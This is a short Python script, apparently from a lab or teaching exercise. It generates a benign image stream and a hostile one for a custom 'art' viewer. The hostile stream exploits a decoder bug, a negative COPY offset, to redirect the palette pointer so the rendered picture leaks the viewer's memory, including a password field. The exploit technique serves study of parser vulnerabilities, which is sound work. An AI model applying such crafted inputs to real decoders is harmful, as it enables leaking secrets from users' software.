#!/usr/bin/python3
"""streams.py [FOLDER]: writes two streams for the viewer.

good.art is a picture. hostile.art is the attack. It uses the decoder's mistake twice, and knows no
address:

    SEEK 64, COPY 8 -16    row[64..71] = row[80..87]: the palette's pointer becomes the cookie
    letters 4, 5, 6, ...   the palette is now the viewer's memory: the picture shows it
"""

import pathlib
import sys

COPY, SEEK, END = 0x80, 0x81, 0x82
# Places in struct decoder, and in struct viewer, which the cookie points to.
PALETTE, COOKIE, PASSWORD = 64, 80, 4
LENGTH = 24


def good() -> bytes:
    rows = b"".join(bytes([(x * y) % 10 for x in range(32)]) + bytes([END]) for y in range(8))
    return bytes([32, 8]) + rows


def hostile() -> bytes:
    aim = bytes([SEEK, PALETTE, COPY, 8, (PALETTE - COOKIE) & 0xFF])
    read = bytes([SEEK, 0, *range(PASSWORD, PASSWORD + LENGTH)])
    return bytes([LENGTH, 1]) + aim + read + bytes([END])


if __name__ == "__main__":
    folder = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else ".")
    (folder / "good.art").write_bytes(good())
    (folder / "hostile.art").write_bytes(hostile())
